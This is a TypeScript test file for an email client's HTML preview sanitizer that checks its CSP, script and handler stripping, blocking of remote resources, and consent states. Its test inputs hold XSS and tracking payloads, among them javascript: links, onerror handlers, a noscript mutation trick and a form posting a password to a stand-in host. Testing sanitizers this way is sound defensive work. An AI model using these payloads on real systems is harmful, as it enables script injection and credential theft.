import { strict as assert } from 'node:assert';
import { describe, test } from 'node:test';
import { Element, isTag } from 'domhandler';
import { parseDocument } from 'htmlparser2';
import { decodePartContent } from '../../src/core/mime/decodePart';
import { partTreeFromRaw } from '../../src/core/mime/fromRawMessage';
import { buildHtmlPreview, PREVIEW_STYLE } from '../../src/core/mime/htmlPreview';
import { cidUriResolver } from '../../src/core/mime/cidParts';
import { partBytes } from '../../src/core/mime/partBytes';
import { MimePart, findPart } from '../../src/core/mime/partTree';
import { readFixture } from '../fixtures/expectations';

// The value VS Code 1.139 really gives as webview.cspSource: two sources.
const CSP_SOURCE = "'self' https://*.vscode-cdn.net";
const OWN = CSP_SOURCE.split(' ');
const NONCE = 'Zm9vYmFyYmF6cXV4MTIzNA==';
const SCRIPT = 'https://file+.vscode-resource.vscode-cdn.net/ext/media/preview.js';

const HOSTILE = `<!DOCTYPE html><html><head>
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<base href="https://evil.example/base/">
<style>@import url("https://evil.example/import.css"); body{background:url('https://evil.example/bg.png')}
@font-face{font-family:x;src:url(https://evil.example/font.woff)} .e{background:\\75rl(https://evil.example/escaped.png)}
.s{background:image-set("https://evil.example/set.png" 1x)} .c{background:url(cid:logo@x)}</style>
<link rel="stylesheet" href="https://evil.example/sheet.css">
<script>alert('head')</script></head>
<body onload="alert(1)" style="background-image:url(//evil.example/body.png)">
<p onclick="alert(2)" onmouseover = "alert(3)">Hello <a href="javascript:alert(4)">one</a> <a href="jav&#x09;ascript:alert(5)">two</a>
<a href=" JAVASCRIPT:alert(6)">three</a> <a href="https://ok.example/page?a=1&amp;b=2" target="_top" ping="https://evil.example/ping">ok</a></p>
<img src="https://evil.example/pixel.gif" onerror="alert(7)"><img src="cid:logo@x" alt="logo"><img src="data:text/html,&lt;script&gt;alert(8)&lt;/script&gt;">
<img srcset="https://evil.example/a.png 1x, https://evil.example/b.png 2x" alt="s">
<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button formaction="https://evil.example/go">Go</button></form>
<svg onload="alert(9)"><script>alert(10)</script><a xlink:href="javascript:alert(11)"><text>svg</text></a><animate attributeName="href" values="javascript:alert(12)"/></svg>
<iframe src="https://evil.example/frame" srcdoc="&lt;script&gt;alert(13)&lt;/script&gt;"></iframe><object data="https://evil.example/o.swf"></object><embed src="https://evil.example/e.swf">
<noscript><p title="</noscript><img src=x onerror=alert(14)>"></p></noscript>
<table background="https://evil.example/table.png"><tr><td data-href="javascript:alert(15)" data-mi-action="allowRemote">cell</td></tr></table>
<math><mi xlink:href="javascript:alert(16)">m</mi></math><xmp><script>alert(17)</script></xmp>
</body></html>`;

const LOGO = 'data:image/png;base64,iVBORw0KGgo=';
const resolveCid = (id: string): string | undefined => (id === 'logo@x' ? LOGO : undefined);

/** The directives of the CSP as a map of name to sources. */
function directives(csp: string): Map<string, string[]> {
  const map = new Map<string, string[]>();
  for (const d of csp.split(';').map((s) => s.trim()).filter(Boolean)) {
    const [name, ...sources] = d.split(/\s+/);
    map.set(name, sources);
  }
  return map;
}

function elements(html: string): Element[] {
  const out: Element[] = [];
  const stack = [...parseDocument(html).children].reverse();
  while (stack.length > 0) {
    const node = stack.pop();
    if (node && isTag(node)) {
      out.push(node);
      stack.push(...[...node.children].reverse());
    }
  }
  return out;
}

describe('HTML preview of hostile HTML', () => {
  const page = buildHtmlPreview(HOSTILE, { cspSource: CSP_SOURCE, nonce: NONCE, scriptUri: SCRIPT, resolveCid });

  test('the CSP allows no script but our nonce and nothing remote', () => {
    const meta = elements(page.html).find((e) => e.name === 'meta' && e.attribs['http-equiv'] === 'Content-Security-Policy');
    assert.equal(meta?.attribs.content, page.csp);
    const csp = directives(page.csp);
    assert.deepEqual(csp.get('default-src'), ["'none'"]);
    assert.deepEqual(csp.get('script-src'), [`'nonce-${NONCE}'`]);
    assert.deepEqual(csp.get('img-src'), [...OWN, 'data:']);
    assert.deepEqual(csp.get('style-src'), ["'unsafe-inline'", ...OWN]);
    assert.deepEqual(csp.get('font-src'), [...OWN, 'data:']);
    assert.deepEqual(csp.get('form-action'), ["'none'"]);
    assert.deepEqual(csp.get('base-uri'), ["'none'"]);
    for (const [name, sources] of csp) {
      // Only the webview's own source, data:, and the keywords we chose: no scheme or host from outside.
      for (const source of sources) assert.ok(OWN.includes(source) || ["'none'", 'data:', "'unsafe-inline'", `'nonce-${NONCE}'`].includes(source), `${name} ${source}`);
      if (name !== 'style-src') assert.ok(!sources.includes("'unsafe-inline'"), `${name} allows no inline code`);
    }
  });

  test('the only script is ours; no handlers, javascript: URLs, frames, forms, base or refresh remain', () => {
    const all = elements(page.html);
    const scripts = all.filter((e) => e.name === 'script');
    assert.equal(scripts.length, 1);
    assert.deepEqual(scripts[0].attribs, { nonce: NONCE, src: SCRIPT });
    for (const el of all) {
      for (const [name, value] of Object.entries(el.attribs)) {
        assert.ok(!/^on/i.test(name), `<${el.name} ${name}>`);
        assert.ok(!/javascript:/i.test(value.replace(/\s/g, '')), `<${el.name} ${name}="${value}">`);
        assert.ok(!['href', 'action', 'formaction', 'xlink:href', 'srcdoc', 'ping', 'target'].includes(name) || el.name === 'link', `<${el.name} ${name}>`);
      }
      assert.ok(!['iframe', 'object', 'embed', 'svg', 'math', 'form', 'base', 'noscript', 'xmp', 'animate'].includes(el.name), `<${el.name}>`);
      if (el.name === 'meta') assert.ok(el.attribs['http-equiv'] !== 'refresh');
    }
    assert.ok(!/alert\(/.test(page.html), 'no script text survives anywhere');
  });

  test('remote resources are neutralised and counted; data: and cid: images load', () => {
    assert.ok(!page.html.includes('evil.example'), 'no remote URL left in the page');
    // import, bg, font, escaped url(), image-set, sheet link, body background, pixel, 2 srcset candidates, table background
    assert.equal(page.blockedRemote, 11);
    assert.equal(page.blockedNotice, '11 remote resources blocked');
    assert.deepEqual(page.blockedHosts, ['evil.example']);
    const images = elements(page.html).filter((e) => e.name === 'img');
    assert.deepEqual(images.map((i) => i.attribs.src), [undefined, LOGO, undefined, undefined]);
    assert.match(page.html, /\.c\{background:url\("data:image\/png;base64,iVBORw0KGgo="\)\}/);
  });

  test('links carry data-href for our script to intercept, never href', () => {
    const links = elements(page.html).filter((e) => e.name === 'a');
    assert.deepEqual(links.map((a) => a.attribs['data-href']), [undefined, undefined, undefined, 'https://ok.example/page?a=1&b=2']);
    assert.ok(links.every((a) => a.attribs.href === undefined));
    const cell = elements(page.html).find((e) => e.name === 'td');
    assert.deepEqual(cell?.attribs, {}, 'data-* from the message cannot forge our markers');
  });

  test('forms are inert: renamed, controls disabled, no targets', () => {
    const all = elements(page.html);
    const form = all.find((e) => e.attribs.class === 'mi-form');
    assert.ok(form);
    assert.deepEqual(Object.keys(form.attribs), ['class']);
    const controls = elements(page.html.slice(page.html.indexOf('class="mi-form"'))).filter((e) => e.name === 'input' || e.name === 'button');
    assert.equal(controls.length, 2);
    for (const control of controls) assert.equal(control.attribs.disabled, '');
  });

  test("remote: 'https' re-enables remote images, styles and fonts (https) and widens the CSP accordingly", () => {
    const allowed = buildHtmlPreview(HOSTILE, { cspSource: CSP_SOURCE, remote: 'https', resolveCid });
    const csp = directives(allowed.csp);
    assert.deepEqual(csp.get('img-src'), [...OWN, 'data:', 'https:']);
    assert.deepEqual(csp.get('style-src'), ["'unsafe-inline'", ...OWN, 'https:']);
    assert.equal(csp.get('script-src'), undefined, 'no script at all without a nonce');
    assert.equal(allowed.blockedRemote, 0);
    assert.equal(allowed.blockedNotice, undefined);
    const all = elements(allowed.html);
    assert.equal(all.find((e) => e.name === 'img')?.attribs.src, 'https://evil.example/pixel.gif');
    assert.ok(all.some((e) => e.name === 'link' && e.attribs.href === 'https://evil.example/sheet.css'));
    assert.match(allowed.html, /@import url\("https:\/\/evil\.example\/import\.css"\)/);
    assert.ok(!all.some((e) => e.name === 'script'), 'still no script');
    assert.ok(!/alert\(/.test(allowed.html));
  });

  test('a style element cannot be closed early and bad options are refused', () => {
    const styled = buildHtmlPreview('<style>p{content:"</style><script>alert(1)</script>"}</style><p>x</p>', { cspSource: CSP_SOURCE });
    assert.ok(!/<script/i.test(styled.html));
    assert.throws(() => buildHtmlPreview('x', { cspSource: "https://x; script-src 'unsafe-inline'" }), { name: 'MailError', reason: 'config' });
    assert.throws(() => buildHtmlPreview('x', { cspSource: CSP_SOURCE, nonce: 'short' }), { name: 'MailError' });
    assert.throws(() => buildHtmlPreview('x', { cspSource: CSP_SOURCE, scriptUri: SCRIPT }), { name: 'MailError' });
  });

  test('deeply nested HTML is flattened, not a stack overflow', () => {
    const deep = '<div>'.repeat(20_000) + 'bottom' + '</div>'.repeat(20_000);
    const preview = buildHtmlPreview(deep, { cspSource: CSP_SOURCE });
    assert.ok(preview.html.includes('bottom'));
  });
});

describe('HTML preview of a real message', () => {
  test('cid: images resolve to data: URIs from the sibling parts of multipart/related', async () => {
    const raw = readFixture('related.eml');
    const tree = await partTreeFromRaw(raw);
    const htmlPart = findPart(tree, '1.2') as MimePart;
    const html = decodePartContent(htmlPart, partBytes(raw, htmlPart)).text ?? '';
    const resolve = cidUriResolver(tree, htmlPart, (part) => partBytes(raw, part));
    const preview = buildHtmlPreview(html, { cspSource: CSP_SOURCE, resolveCid: resolve });
    const img = elements(preview.html).find((e) => e.name === 'img');
    const png = decodePartContent(findPart(tree, '2') as MimePart, partBytes(raw, findPart(tree, '2') as MimePart)).binary as Buffer;
    assert.equal(img?.attribs.src, `data:image/png;base64,${png.toString('base64')}`);
    assert.equal(preview.missingInline, 0);
  });
});

// One https image, three http resources (image, CSS background, style sheet) and a protocol-relative image.
const MIXED = `<html><head><link rel="stylesheet" href="http://plain.example/d.css"></head><body>
<img src="https://secure.example/a.png"><img src="http://plain.example/b.png">
<p style="background:url(http://plain.example/c.png)">text</p><img src="//relative.example/e.png"></body></html>`;

/** The banner's buttons: their action and their text. */
function bannerButtons(html: string): { action: string | undefined; text: string }[] {
  return elements(html)
    .filter((e) => e.name === 'button' && e.attribs['data-mi-action'] !== undefined)
    .map((b) => ({ action: b.attribs['data-mi-action'], text: b.children.map((c) => ('data' in c ? c.data : '')).join('') }));
}

describe('HTML preview remote content states', () => {
  test('blocked (the default): nothing remote in policy or page, one banner with the count and the http share', () => {
    const page = buildHtmlPreview(MIXED, { cspSource: CSP_SOURCE });
    const csp = directives(page.csp);
    for (const d of ['img-src', 'style-src', 'font-src']) assert.ok(!csp.get(d)?.some((s) => s === 'https:' || s === 'http:'), d);
    assert.equal(page.remote, 'blocked');
    assert.equal(page.blockedRemote, 5);
    assert.equal(page.insecureRemote, 3);
    assert.equal(page.blockedNotice, '5 remote resources blocked');
    assert.match(page.html, /5 remote resources blocked \(3 of them over insecure http\)\./);
    assert.deepEqual(bannerButtons(page.html), [{ action: 'allowRemote', text: 'Load remote content' }]);
    assert.ok(!/plain\.example|secure\.example|relative\.example/.test(page.html));
    const onlyHttp = buildHtmlPreview('<img src="http://plain.example/b.png"><img src="http://plain.example/c.png">', { cspSource: CSP_SOURCE });
    assert.match(onlyHttp.html, /2 remote resources blocked \(all over insecure http\)\./);
  });

  test("https (after consent): https loads, http stays blocked and the banner says how many, why, and offers to load them", () => {
    const page = buildHtmlPreview(MIXED, { cspSource: CSP_SOURCE, remote: 'https' });
    const csp = directives(page.csp);
    for (const d of ['img-src', 'style-src', 'font-src']) {
      assert.ok(csp.get(d)?.includes('https:'), `${d} allows https`);
      assert.ok(!csp.get(d)?.includes('http:'), `${d} allows no http`);
    }
    const images = elements(page.html).filter((e) => e.name === 'img').map((i) => i.attribs.src);
    // A protocol-relative URL is loaded over https.
    assert.deepEqual(images, ['https://secure.example/a.png', undefined, 'https://relative.example/e.png']);
    assert.ok(!page.html.includes('http://'), 'no http URL left in the page');
    assert.equal(page.blockedRemote, 3);
    assert.equal(page.blockedNotice, '3 insecure http resources not loaded');
    assert.match(page.html, /3 insecure http resources not loaded\./);
    assert.match(page.html, /over https only: http travels unencrypted/);
    assert.deepEqual(bannerButtons(page.html), [{ action: 'allowInsecure', text: 'Load insecure http content too' }]);
  });

  test('all (after the second choice): http is in the policy and the page, and no banner is left', () => {
    const page = buildHtmlPreview(MIXED, { cspSource: CSP_SOURCE, remote: 'all' });
    const csp = directives(page.csp);
    for (const d of ['img-src', 'style-src', 'font-src']) assert.ok(csp.get(d)?.includes('https:') && csp.get(d)?.includes('http:'), d);
    const all = elements(page.html);
    assert.deepEqual(all.filter((e) => e.name === 'img').map((i) => i.attribs.src), ['https://secure.example/a.png', 'http://plain.example/b.png', 'https://relative.example/e.png']);
    assert.ok(all.some((e) => e.name === 'link' && e.attribs.href === 'http://plain.example/d.css'));
    assert.match(page.html, /url\(http:\/\/plain\.example\/c\.png\)/);
    assert.equal(page.blockedRemote, 0);
    assert.equal(page.insecureRemote, 3);
    assert.equal(page.blockedNotice, undefined);
    assert.deepEqual(bannerButtons(page.html), []);
  });

  test('https with nothing over http: everything loads and no banner shows', () => {
    const page = buildHtmlPreview('<img src="https://secure.example/a.png">', { cspSource: CSP_SOURCE, remote: 'https' });
    assert.equal(page.blockedNotice, undefined);
    assert.deepEqual(bannerButtons(page.html), []);
  });
});

/** The rules of a flat style sheet (no at-rules), as selector and declarations. */
function rules(css: string): { selector: string; declarations: string }[] {
  return [...css.matchAll(/([^{}]+)\{([^}]*)\}/g)].map((m) => ({ selector: m[1].trim(), declarations: m[2] }));
}

describe('HTML preview paper and chrome (a dark editor theme)', () => {
  test('the message is on white paper with black text, before any of its own rules', () => {
    const page = buildHtmlPreview('<style>.x{color:red}</style><p style="color:#000">black text</p>', { cspSource: CSP_SOURCE });
    const body = rules(PREVIEW_STYLE).find((r) => r.selector === 'body');
    assert.match(body?.declarations ?? '', /background-color:#fff/);
    assert.match(body?.declarations ?? '', /(^|;)color:#000/);
    assert.ok(page.html.indexOf(PREVIEW_STYLE) > 0 && page.html.indexOf(PREVIEW_STYLE) < page.html.indexOf('.x{color:red}'), "the paper comes first: the message's rules win");
    assert.equal(elements(page.html).find((e) => e.name === 'body')?.attribs.style, undefined);
    // VS Code's webview defaults colour links, code and quotes with the theme: reset on the paper, weighing no
    // more than an element selector (so the message's own rules still win).
    for (const element of ['a', 'code', 'blockquote']) {
      const reset = rules(PREVIEW_STYLE).find((r) => r.selector.split(',').includes(`:where(.mi-message) ${element}`));
      assert.ok(reset, `no paper reset for ${element}`);
    }
  });

  test("a message's own body colours (bgcolor, text, style) paint the whole page, not a box", () => {
    const page = buildHtmlPreview('<body bgcolor="#222222" text="eeeeee" style="margin:0"><p>light on dark</p></body>', { cspSource: CSP_SOURCE });
    const all = elements(page.html);
    assert.equal(all.find((e) => e.name === 'body')?.attribs.style, 'background-color:#222222;color:#eeeeee;margin:0');
    const div = all.find((e) => e.attribs.class === 'mi-body');
    assert.deepEqual(div?.attribs, { class: 'mi-body' });
    const hostile = buildHtmlPreview('<body bgcolor="red;background:url(https://evil.example/x)" text="expression(alert(1))"><p>x</p></body>', { cspSource: CSP_SOURCE });
    assert.equal(elements(hostile.html).find((e) => e.name === 'body')?.attribs.style, undefined, 'only plain colours are taken from the attributes');
  });

  test('the banner and its buttons use the theme colours only', () => {
    const chrome = rules(PREVIEW_STYLE).filter((r) => r.selector.startsWith('.mi-remote-notice'));
    assert.ok(chrome.length >= 3);
    for (const rule of chrome) {
      for (const declaration of rule.declarations.split(';').filter(Boolean)) {
        const [property, value] = [declaration.slice(0, declaration.indexOf(':')), declaration.slice(declaration.indexOf(':') + 1)];
        if (!/^(color|background(-color)?|border(-(top|right|bottom|left))?(-color)?|outline(-color)?)$/.test(property) || value === 'none') continue;
        assert.match(value, /var\(--vscode-/, `${rule.selector} ${declaration}`);
        assert.ok(!/#[0-9a-f]{3,8}\b|rgb\(/i.test(value), `${rule.selector} ${declaration} has a fixed colour`);
      }
    }
    const blocked = buildHtmlPreview('<img src="https://x.example/a.png">', { cspSource: CSP_SOURCE });
    assert.ok(elements(blocked.html).some((e) => e.attribs.class === 'mi-remote-notice'));
  });
});
